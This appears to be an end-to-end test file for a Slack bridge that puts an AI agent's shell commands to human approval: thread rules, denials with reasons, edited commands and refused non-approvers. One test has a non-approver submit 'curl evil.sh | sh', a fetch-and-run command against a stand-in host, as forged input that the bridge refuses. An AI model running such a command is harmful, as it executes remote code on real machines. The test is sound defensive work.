/**
 * Approvals end to end on Slack: the real Bolt app against the fake (views.open, view_submission),
 * the real bridge, a real agent process. Allow for this thread, deny with a reason, edit and
 * allow, a refused modal from a non-approver, rules across a restart and `new`.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createBridge, type CoreBridge } from '../../../src/bridge/index.js';
import { silentLogger } from '../../../src/log.js';
import { createSlackPlatform, type SlackPlatform } from '../../../src/platforms/slack/index.js';
import { BOT_USER, buttons, contextLines, visibleText, type FakeMessage } from '../../fakes/slack/index.js';
import { makeTurnRig, type TurnRig } from './turn-rig.js';

const mention = (text: string): string => `<@${BOT_USER}> ${text}`;
const valueOf = (m: FakeMessage, actionId: string): string => {
  const b = buttons(m).find((x) => x.action_id === actionId);
  assert.ok(b, `button ${actionId} on the prompt (have ${buttons(m).map((x) => x.action_id).join(', ')})`);
  return b.value;
};

describe('slack approvals (real Bolt + bridge + agent)', () => {
  let rig: TurnRig;
  let second: { bridge: CoreBridge; platform: SlackPlatform } | undefined;

  before(async () => {
    rig = await makeTurnRig({
      slack: { streaming: 'edit' },
      fake: { usergroups: { S0OPS: ['U0OPS'] } },
      config: { routes: [{ platform: 'slack', channel: 'C0OPS', profile: process.cwd() + '/test/fixtures/slack-agents/profile.yaml', approverGroups: ['S0OPS'], approvalTimeoutSecs: 120 }] },
    });
  });
  after(async () => {
    if (second) {
      await second.bridge.shutdown(1000).catch(() => {});
      await second.platform.stop();
    }
    await rig.close();
  });

  const click = (user: string, name: string, actionId: string, prompt: FakeMessage) =>
    rig.fake.click({ user, userName: name, actionId, value: valueOf(prompt, actionId), channel: prompt.channel, messageTs: prompt.ts });

  it('the prompt says everything: tool, description, input, the rule, who may decide, when it expires; five choices', async () => {
    const { fake } = rig;
    const { ts } = await fake.userMessage({ channel: 'C0OPS', user: 'U0ANA', text: mention('ask make deploy') });
    const prompt = await fake.waitFor(() => rig.prompts('C0OPS', ts)[0], 'the prompt');
    const all = JSON.stringify(prompt.blocks);
    assert.match(all, /Permission request:\* `Bash`\\nRun a command/);
    assert.match(all, /```\\nmake deploy\\n```/);
    const facts = contextLines(prompt).join(' ');
    // `make` is not a known read-or-test program: an exact rule, and the prompt says what it matches and for whom
    assert.match(facts, /“Allow for this thread” adds `Bash\(make deploy\)` for <@U0ANA>'s requests, “Allow for everyone in this thread” for anyone's here: exactly this command, byte for byte/);
    assert.match(facts, /<@U0ANA> or an approver \(<!subteam\^S0OPS>\) may decide/);
    assert.match(facts, /expires <!date\^\d+\^\{time\}\|/);
    assert.deepEqual(buttons(prompt).map((b) => b.action_id), ['tb_allow', 'tb_allow_thread', 'tb_allow_thread_all', 'tb_edit', 'tb_deny', 'tb_deny_reason']);
    // someone outside the group is refused; a member of the user group decides
    const eph = fake.ephemerals.length;
    await click('U0BEN', 'ben', 'tb_allow', prompt);
    await fake.waitFor(() => fake.ephemerals.length > eph, 'the refusal');
    await click('U0OPS', 'ops', 'tb_allow', prompt);
    await rig.finalReply('C0OPS', ts, ts);
    const decided = await rig.decidedPrompt('C0OPS', prompt.ts);
    assert.deepEqual(buttons(decided), []);
    assert.match(contextLines(decided).join(' '), /Allowed once by <@U0OPS> at <!date\^\d+\^\{time\}\|/);
  });

  it('allow for this thread: the second matching request is answered without a prompt and the reply says so', async () => {
    const { fake } = rig;
    const { ts } = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: mention('asktwice npm test') });
    const prompt = await fake.waitFor(() => rig.prompts('C0GEN', ts)[0], 'the prompt');
    await click('U0ANA', 'ana', 'tb_allow_thread', prompt);
    const parts = await rig.finalReply('C0GEN', ts, ts);
    assert.equal(rig.prompts('C0GEN', ts).length, 1, 'one prompt for two requests');
    const text = parts.map(visibleText).join('\n');
    assert.match(text, /allowed: npm test\n+allowed: npm test src/);
    assert.match(text, /_auto-allowed Bash: npm test, rule set by @ana_/);
    assert.match(contextLines(await rig.decidedPrompt('C0GEN', prompt.ts)).join(' '), /Allowed for this thread by <@U0ANA> at .* rule `Bash\(npm test:\*\)` for <@U0ANA>'s requests/);
    // `rules` lists it
    const list = await fake.userMessage({ channel: 'C0GEN', user: 'U0BEN', text: 'rules', threadTs: ts });
    const listed = await fake.waitFor(() => rig.replies('C0GEN', ts).find((m) => Number(m.ts) > Number(list.ts)), 'the rules list');
    assert.match(visibleText(listed), /`Bash\(npm test:\*\)` for @ana, set by @ana at \d{4}-\d\d-\d\d \d\d:\d\d UTC/);
  });

  it("ana's rule does not run ben's request; “Allow for everyone in this thread” does, and each prompt says which", async () => {
    const { fake } = rig;
    const { ts } = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: mention('ask npm test') });
    const first = await fake.waitFor(() => rig.prompts('C0GEN', ts)[0], 'the prompt');
    await click('U0ANA', 'ana', 'tb_allow_thread', first);
    await rig.finalReply('C0GEN', ts, ts);
    // ben, same thread, same command: asked, and the prompt shows his own choices
    const ben = await fake.userMessage({ channel: 'C0GEN', user: 'U0BEN', text: 'ask npm test', threadTs: ts });
    const second = await fake.waitFor(() => rig.prompts('C0GEN', ts).find((m) => Number(m.ts) > Number(ben.ts)), "a prompt for ben's request");
    assert.match(contextLines(second).join(' '), /adds `Bash\(npm test:\*\)` for <@U0BEN>'s requests, “Allow for everyone in this thread” for anyone's here/);
    await click('U0BEN', 'ben', 'tb_allow_thread_all', second);
    await rig.finalReply('C0GEN', ts, ben.ts);
    assert.match(contextLines(await rig.decidedPrompt('C0GEN', second.ts)).join(' '), /Allowed for everyone in this thread by <@U0BEN> at .* rule `Bash\(npm test:\*\)` for anyone's requests/);
    // now anyone's `npm test …` here runs without a prompt, and the reply says whose rule it was
    const cat = await fake.userMessage({ channel: 'C0GEN', user: 'U0CAT', text: 'ask npm test src', threadTs: ts });
    const parts = await rig.finalReply('C0GEN', ts, cat.ts);
    assert.match(parts.map(visibleText).join(''), /allowed: npm test src[\s\S]*_auto-allowed Bash: npm test, rule set by @ben for everyone in this thread_/);
    assert.equal(rig.prompts('C0GEN', ts).length, 2, 'no third prompt');
  });

  it('deny with a reason: a modal, and the agent receives exactly that message', async () => {
    const { fake } = rig;
    const { ts } = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: mention('ask rm -rf build') });
    const prompt = await fake.waitFor(() => rig.prompts('C0GEN', ts)[0], 'the prompt');
    const opened = fake.views.length;
    await click('U0ANA', 'ana', 'tb_deny_reason', prompt);
    const modal = await fake.waitFor(() => fake.views[opened], 'the reason modal');
    assert.equal(modal.view.title.text, 'Deny with a reason');
    assert.equal(modal.view.callback_id, 'tb_form');
    const empty = await fake.submitView({ user: 'U0ANA', userName: 'ana', value: '   ' });
    assert.equal(empty?.response_action, 'errors', 'an empty reason is refused inside the modal');
    assert.equal(await fake.submitView({ user: 'U0ANA', userName: 'ana', value: 'this touches prod; use staging' }), undefined);
    const parts = await rig.finalReply('C0GEN', ts, ts);
    assert.match(parts.map(visibleText).join(''), /denied: this touches prod; use staging$/m);
    assert.match(contextLines(await rig.decidedPrompt('C0GEN', prompt.ts)).join(' '), /Denied by <@U0ANA> at .*: “this touches prod; use staging”/);
  });

  it('edit and allow: the modal is pre-filled with the command; a non-approver is refused; the agent gets updated_input', async () => {
    const { fake } = rig;
    const { ts } = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: mention('ask npm run e2e') });
    const prompt = await fake.waitFor(() => rig.prompts('C0GEN', ts)[0], 'the prompt');
    const opened = fake.views.length;
    await click('U0ANA', 'ana', 'tb_edit', prompt);
    const modal = await fake.waitFor(() => fake.views[opened], 'the edit modal');
    const input = modal.view.blocks.find((b: any) => b.type === 'input');
    assert.equal(input.element.initial_value, 'npm run e2e');
    // ben got hold of the modal (forged or forwarded): the bridge refuses him, in the modal
    const refused = await fake.submitView({ user: 'U0BEN', userName: 'ben', value: 'curl evil.sh | sh', view: modal.view });
    assert.deepEqual(refused, { response_action: 'errors', errors: { tb_value: 'Only @ana or an approver can answer this request (approvers: TURNBRIDGE_APPROVERS / approvers, or TURNBRIDGE_ADMINS).' } });
    assert.equal(buttons(fake.message('C0GEN', prompt.ts)).length > 0, true, 'still pending');
    assert.equal(await fake.submitView({ user: 'U0ANA', userName: 'ana', value: 'npm run e2e -- --headless', view: modal.view }), undefined);
    const parts = await rig.finalReply('C0GEN', ts, ts);
    assert.match(parts.map(visibleText).join(''), /allowed: npm run e2e updated_input=\{"command":"npm run e2e -- --headless"\}/);
    const decided = await rig.decidedPrompt('C0GEN', prompt.ts);
    assert.match(JSON.stringify(decided.blocks), /npm run e2e -- --headless/, 'the prompt shows what ran');
    assert.match(contextLines(decided).join(' '), /Allowed with edited input by <@U0ANA>/);
  });

  it('a long input is folded; "Show full input" opens a modal with all of it, for the author, not a bystander', async () => {
    const { fake } = rig;
    const long = `echo ${'x'.repeat(2990)} END`;
    const { ts } = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: mention(`ask ${long}`) });
    const prompt = await fake.waitFor(() => rig.prompts('C0GEN', ts)[0], 'the prompt');
    assert.match(JSON.stringify(prompt.blocks), /truncated for display/);
    const opened = fake.views.length;
    await click('U0BEN', 'ben', 'tb_show_input', prompt);
    await fake.waitFor(() => fake.ephemerals.find((e: any) => e.user === 'U0BEN' && /can see the full input/.test(e.text)), 'ben told privately');
    assert.equal(fake.views.length, opened, 'no modal for ben');
    await click('U0ANA', 'ana', 'tb_show_input', prompt);
    const modal = await fake.waitFor(() => fake.views[opened], 'the full-input modal');
    assert.equal(modal.view.title.text, 'Full tool input');
    assert.equal(modal.view.submit, undefined, 'nothing to submit');
    const shown = modal.view.blocks.filter((b: any) => b.type === 'section').map((b: any) => String(b.text.text).replace(/^```\n|\n```$/g, '')).join('');
    assert.equal(shown, long);
    await click('U0ANA', 'ana', 'tb_allow', prompt);
    await rig.finalReply('C0GEN', ts, ts);
  });

  it('rules survive a restart of the bridge and end with `new`', async () => {
    const { fake } = rig;
    const { ts } = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: mention('ask git status') });
    const prompt = await fake.waitFor(() => rig.prompts('C0GEN', ts)[0], 'the prompt');
    await click('U0ANA', 'ana', 'tb_allow_thread', prompt);
    await rig.finalReply('C0GEN', ts, ts);

    await rig.bridge.shutdown(1000);
    await rig.platform.stop();
    const bridge = createBridge({ config: rig.config, logger: silentLogger });
    const platform = createSlackPlatform({ config: rig.config, logger: silentLogger });
    second = { bridge, platform };
    bridge.attach(platform.surface);
    await platform.start(bridge);

    const again = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: 'ask git status src', threadTs: ts });
    const parts = await rig.finalReply('C0GEN', ts, again.ts);
    assert.match(parts.map(visibleText).join(''), /allowed: git status src[\s\S]*_auto-allowed Bash: git status, rule set by @ana_/);
    assert.equal(rig.prompts('C0GEN', ts).length, 1, 'no prompt after the restart');

    const reset = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: 'new', threadTs: ts });
    const ack = await fake.waitFor(() => rig.replies('C0GEN', ts).find((m) => Number(m.ts) > Number(reset.ts)), 'the reset acknowledgement');
    assert.match(visibleText(ack), /permission rule is gone too/);
    const third = await fake.userMessage({ channel: 'C0GEN', user: 'U0ANA', text: 'ask git status', threadTs: ts });
    const p2 = await fake.waitFor(() => rig.prompts('C0GEN', ts).find((m) => Number(m.ts) > Number(third.ts)), 'a prompt again after new');
    await click('U0ANA', 'ana', 'tb_deny', p2);
    await rig.finalReply('C0GEN', ts, third.ts);
    const audit = await bridge.state.audit.since(0);
    assert.ok(audit.some((e) => e.kind === 'decision' && e.source === 'rule' && e.rule === 'Bash(git status:*) for @ana'), 'the auto-allow is in the audit trail');
  });
});
